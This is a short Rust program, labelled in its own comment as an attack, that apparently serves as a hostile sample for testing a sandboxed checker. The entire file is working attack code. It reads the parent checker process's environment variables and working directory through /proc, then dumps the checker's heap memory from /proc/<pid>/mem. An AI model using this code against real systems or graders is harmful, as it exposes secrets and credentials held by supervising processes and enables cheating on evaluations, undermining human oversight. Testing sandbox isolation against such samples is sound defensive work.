//! attack: reads its checker's environment, working folder and memory through /proc

use std::io::{Read, Seek, SeekFrom};

fn main() {
    let checker = std::os::unix::process::parent_id();
    let environ = std::fs::read(format!("/proc/{checker}/environ"));
    println!("environ: {:?}", environ.map(|e| String::from_utf8_lossy(&e).into_owned()));
    println!("cwd: {:?}", std::fs::read_link(format!("/proc/{checker}/cwd")));
    let maps = std::fs::read_to_string(format!("/proc/{checker}/maps")).unwrap_or_default();
    let Ok(mut mem) = std::fs::File::open(format!("/proc/{checker}/mem")) else {
        eprintln!("cannot open the checker's memory");
        return;
    };
    for line in maps.lines().filter(|l| l.contains("[heap]")) {
        let Some((start, _)) = line.split_once('-') else { continue };
        let Ok(start) = u64::from_str_radix(start, 16) else { continue };
        let mut buf = vec![0u8; 1 << 20];
        if mem.seek(SeekFrom::Start(start)).is_ok() && mem.read(&mut buf).is_ok() {
            println!("{}", String::from_utf8_lossy(&buf));
        }
    }
}
